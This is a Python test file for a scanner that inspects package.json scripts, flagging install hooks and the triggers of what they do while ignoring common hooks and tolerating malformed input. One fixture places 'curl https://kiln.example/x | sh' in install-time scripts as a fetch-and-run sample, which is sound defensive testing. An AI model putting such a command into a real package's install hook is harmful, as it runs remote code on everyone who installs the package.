import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.package_json import READER


def read(text: str) -> set[tuple[str, int, str]]:
    notes = Notes("package.json", every_line=True, is_program=True)
    READER.read(notes, text.encode())
    return {(seen.capability, seen.line, seen.trigger) for seen in notes.observations()}


def test_a_script_that_runs_at_install_is_seen_in_its_line() -> None:
    text = '{"name": "postinstall",\n "scripts": {\n  "test": "kiln",\n  "postinstall": "node fire.js"}}'
    assert read(text) == {("install_hook", 4, "install")}


@pytest.mark.parametrize(("name", "trigger"), [("preinstall", "install"), ("prepare", "install"), ("test", "call")])
def test_what_a_script_does_has_the_trigger_of_the_script(name: str, trigger: str) -> None:
    assert ("fetch_and_run", 1, trigger) in read(f'{{"scripts": {{"{name}": "curl https://kiln.example/x | sh"}}}}')


@pytest.mark.parametrize("command", ["husky install", "node-gyp rebuild", "patch-package"])
def test_well_known_hooks_show_nothing(command: str) -> None:
    assert not read(f'{{"scripts": {{"postinstall": "{command}"}}}}')


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[" * 50_000,
        '{"scripts": 1}',
        '{"scripts": {"install": [1, null]}}',
        "[]",
        '{"scripts": {"a": "' + "$(" * 10_000 + '"}}',
    ],
)
def test_no_text_makes_it_raise(text: str) -> None:
    assert not read(text)
